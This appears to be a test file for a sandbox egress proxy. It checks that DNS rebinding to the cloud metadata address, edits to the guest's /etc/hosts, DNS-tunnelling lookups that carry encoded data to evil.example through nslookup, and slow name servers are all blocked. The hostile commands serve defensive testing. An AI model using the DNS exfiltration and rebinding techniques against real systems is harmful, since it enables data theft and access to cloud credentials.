// Attacks by names that are resolved (group D of the catalogue): answers that change, answers that mislead, and questions that carry data out. The daemon asks
// a name server of the test, which answers as the attack wants and counts what it is asked.
//
//   D8   the daemon asks for whole names at the servers of its configuration only: src/egress/resolver.test.ts
//   D10  the address that is connected to is one that was judged: src/egress/dial.test.ts; D3 shows it from inside
import { once } from 'node:events';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { until } from '../daemon.ts';
import { type DnsServer, dnsServer } from '../network/dns-server.ts';
import { bun, fromHostileGuests, get, told } from './egress.fixture.ts';

type Answer = { addresses: string[]; ttl?: number } | 'silence';

let server: DnsServer;
const answers = new Map<string, (nth: number) => Answer>();

beforeAll(async () => {
  server = await dnsServer(({ name, type, nth }) => {
    const known = [...answers].find(([suffix]) => name === suffix || name.endsWith(`.${suffix}`));
    const answer = known?.[1](nth) ?? 'absent';
    if (typeof answer === 'string') return answer;
    return { ...answer, addresses: answer.addresses.filter((it) => it.includes(':') === (type === 'AAAA')) };
  });
});
afterAll(() => server[Symbol.asyncDispose]());

const runs = ['bubblewrap', 'docker'];
const names = ['mixed.test', 'six.test', 'brief.test', ...runs.map((it) => `rebound-${it}.test:7`)];

fromHostileGuests(
  {
    egress: () => `name_servers = [${JSON.stringify(server.address)}]`,
    prepare: async ({ lab }) => {
      const good = lab.good.address;
      for (const runtime of runs)
        answers.set(`rebound-${runtime}.test`, (nth) => ({
          addresses: [nth === 1 ? good : '169.254.169.254'],
          ttl: 0,
        }));
      const many = Array.from({ length: 20 }, (_, index) => `10.0.0.${index + 1}`);
      answers.set('mixed.test', () => ({ addresses: [...many, '::1', 'fd00::1', '127.0.0.1', good] }));
      answers.set('six.test', () => ({ addresses: ['fd00::1', '64:ff9b::7f00:1', '2002:7f00:1::'] }));
      answers.set('brief.test', () => ({ addresses: [good], ttl: 0 }));
      answers.set('shift.test', () => ({ addresses: [good] }));
      answers.set('wild.test', () => ({ addresses: [good] }));
      answers.set('slow.test', () => 'silence');
      answers.set('evil.example', () => ({ addresses: [lab.evil.address] }));
    },
    rules: (lab) => [
      { decision: 'allow', resources: ['good.test', '*.slow.test', '*.wild.test', lab.network] },
      { decision: 'allow', resources: names },
    ],
  },
  (scene, runtime) => {
    const ask = async (name: string) => (await scene.guest.raw(get(`http://${name}/`, name))).replies[0];
    const asked = (name: string) => server.questions.filter((it) => it.startsWith(`${name} `));

    test('D1 a name that is bound to another address after the decision is judged anew', async () => {
      const { guest } = scene;
      const name = `rebound-${runtime}.test`;
      const echoed = async () => {
        const { socket, reply } = await guest.connect(`${name}:7`);
        expect(reply).toMatchObject({ status: 200 });
        socket.write('hello');
        const first = await Promise.race([
          once(socket, 'data').then(([bytes]) => String(bytes)),
          once(socket, 'end').then(() => 'closed'),
        ]);
        socket.destroy();
        return first;
      };
      expect(await echoed()).toBe('hello');
      // One look for both families; what was judged is what was dialled.
      expect(asked(name).toSorted()).toEqual([`${name} A`, `${name} AAAA`]);
      await until('the second answer', echoed, (it) => it === 'closed');
      const entry = await guest.logged((it) => it.host === name && it.decision === 'deny');
      expect(entry.reason).toBe('metadata');
    });

    test('D3 of many addresses only those are dialled that may be, and few questions are asked', async () => {
      expect((await ask('mixed.test'))?.status).toBe(200);
      const entry = await scene.guest.logged((it) => it.host === 'mixed.test');
      expect(entry.address).toBe(scene.lab.good.address);
      expect((await ask('six.test'))?.status).toBe(403);
      const before = asked('brief.test').length;
      const startedAt = performance.now();
      for (let times = 0; times < 20; times++) expect((await ask('brief.test'))?.status).toBe(200);
      const seconds = Math.ceil((performance.now() - startedAt) / 1_000);
      expect(asked('brief.test').length - before).toBeLessThanOrEqual(2 * (seconds + 1));
    });

    test('D4 a rule that goes takes along what is open under it', async () => {
      const { guest, world } = scene;
      const ids = [
        await world.rule({ decision: 'allow', resources: ['shift.test:7'], sandbox: guest.id }),
        await world.rule({ decision: 'allow', resources: ['x.shift.test'], sandbox: guest.id }),
      ];
      const { socket: raw, reply } = await guest.connect('shift.test:7');
      expect(reply).toMatchObject({ status: 200 });
      raw.write('hello');
      expect(String((await once(raw, 'data'))[0])).toBe('hello');
      const kept = await guest.proxy();
      kept.write(get('http://x.shift.test/', 'x.shift.test'));
      expect((await told(kept)).replies[0]?.status).toBe(200);
      const cut = told(raw, Number.POSITIVE_INFINITY);
      for (const id of ids) expect((await world.call('DELETE', `/v1/policy/rules/${id}`)).status).toBe(204);
      expect((await cut).closed).toBe(true);
      kept.write(get('http://x.shift.test/', 'x.shift.test'));
      const { replies } = await told(kept);
      expect(replies.map((it) => it.status)).not.toContain(200);
      kept.destroy();
    });

    test('D5 what a guest writes into its own tables changes where nothing goes', async () => {
      const { guest, world } = scene;
      await world.untouched(async () => {
        const hosts = '203.0.113.9 good.test\\n203.0.113.9 evil.test\\n';
        const ask = (name: string) =>
          `${bun.line} -e 'const s = require("net").connect(80, "${name}", () => s.write("GET / HTTP/1.1\\r\\nHost: ${name}\\r\\n\\r\\n"));
           s.once("data", (it) => { console.log(String(it)); process.exit() })'`;
        const { stdout } = await guest.shell(
          `cp /etc/hosts /tmp/hosts; printf '${hosts}' >>/etc/hosts; ${ask('good.test')}; ${ask('evil.test')}; cat /tmp/hosts >/etc/hosts`,
        );
        expect(stdout).toContain('hello from good.test');
        expect(stdout).toContain('403 Forbidden');
      });
    });

    test('D6 names that may not be reached are never asked for, however a guest asks', async () => {
      const { guest, world } = scene;
      const before = server.questions.length;
      const data = 'nbswy3dpeqqho33snrsa';
      const denied = `${data}.evil.example`;
      await world.untouched(async () => {
        expect((await ask(denied))?.status).toBe(403);
        expect((await guest.connect(`${denied}:443`)).reply?.status).toBe(403);
        expect(await guest.socks(Buffer.from(denied), 443)).toBe('not allowed');
        expect(await guest.resolve(denied)).toBeUndefined();
        for (const at of ['8.8.8.8', '203.0.113.53', '2001:4860:4860::8888'])
          await guest.shell(
            `timeout 1 nslookup ${denied} ${at}; timeout 1 nslookup -type=txt ${denied} ${at}`,
          );
        // The stub answers for an allowed name by itself: looking up sends nothing either.
        expect(await guest.resolve(`${data}.wild.test`)).toMatch(/^198\.1[89]\./);
        for (const port of [53, 853]) {
          const dialled = await guest.dial({ address: '8.8.8.8', port }).catch(() => undefined);
          dialled?.destroy();
        }
      });
      const since = server.questions.slice(before).filter((it) => !it.includes('.slow.test'));
      expect(since).toEqual([]);
      expect((await ask('plain.wild.test'))?.status).toBe(200);
      expect(asked('plain.wild.test').length).toBeGreaterThan(0);
      expect((await guest.logged((it) => it.protocol === 'dns')).host).toBe(denied);
    });

    test('D9 names that nobody answers for hold up nobody but themselves', async () => {
      const { guest } = scene;
      const slow = await Promise.all(Array.from({ length: 60 }, () => guest.proxy()));
      const heldUp = new Set<unknown>(slow);
      slow.forEach((socket, index) => {
        socket.once('data', () => heldUp.delete(socket));
        const name = `n${index}-${runtime}.slow.test`;
        socket.write(get(`http://${name}/`, name));
      });
      await until(
        'questions for slow names',
        () => server.questions.filter((it) => it.includes(`-${runtime}.slow.test`)).length,
        (count) => count >= 8,
      );
      expect((await ask('good.test'))?.status).toBe(200);
      // The question for it did not wait in the line of the others.
      expect(heldUp.size).toBeGreaterThan(0);
      for (const socket of slow) socket.destroy();
    });
  },
);
